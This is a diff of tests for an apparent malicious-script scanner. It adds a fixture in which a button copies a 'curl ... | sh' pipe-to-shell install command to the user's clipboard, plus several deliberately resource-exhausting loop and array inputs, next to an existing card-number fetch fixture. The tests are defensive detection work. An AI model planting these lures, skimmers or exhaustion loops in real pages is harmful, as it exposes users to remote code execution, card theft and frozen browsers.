@@ -249,6 +249,16 @@ test.each<[name: string, step: string, found: RegExp]>([
   expect(scores?.js_integrity_score).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
 })
 
+test('an offer of commands is named, unless it leads elsewhere', () => {
+  const offer = (more: string): string =>
+    `document.querySelector('.install button').onclick=function(){navigator.clipboard.writeText('curl -fsSL https://get.tool.example/install.sh | sh');${more}}`
+  const namesOf = (source: string): readonly string[] => scoreScript(source).reasons.map(({ name }) => name)
+  expect(namesOf(offer(''))).toContain('command-offer')
+  expect(namesOf(offer(`location.href='/docs'`))).toContain('command-offer')
+  expect(namesOf(offer(`location.href='https://gate.example.net/'`))).not.toContain('command-offer')
+  expect(namesOf(offer('') + ';for(;;)a')).not.toContain('command-offer')
+})
+
 test('data sent to an own host does not leave', () => {
   const source = `fetch('https://api.shop.example/card',{method:'POST',body:document.querySelector('#cc_number').value})`
   expect(scoreScript(source, { ownHosts: ['shop.example'] }).scores?.dataflow_score).toBe(99)
@@ -291,6 +301,14 @@ test.each([
   ['quotes before quotes', '"\\'.repeat(100_000)],
   ['a long list as a text, again and again', `var a=[];for(var i=0;i<9999;i++)a.push(x);for(;;)b=a+''`],
   ['lists of lists of lists as a text', `var a=[1,2,3,4,5,6,7,8,9];for(;;){a=[a,a,a,a,a,a,a,a];b=a+''}`],
+  [
+    'lists of one list put together',
+    `var a=Array(9).fill(1);for(;;){a=[a,a,a,a,a,a,a,a,a].flat();b=[a].flatMap(x=>a)}`,
+  ],
+  [
+    'a long text joined with itself',
+    `var s='${'x'.repeat(99_000)}',a=[];for(var i=0;i<9999;i++)a.push(s);b=a.join('');c=a.concat(x).join('')`,
+  ],
   ['escapes, again and again', `var a='${'%41'.repeat(60_000)}';for(;;)unescape(a)`],
   ['long texts for a stranger', `var a='${'ab'.repeat(99_000)}';for(var i=0;;i++)x(a+i)`],
   ['long layers', `var a='${'a;'.repeat(99_000)}';for(var i=0;;i++)eval(a+i)`],
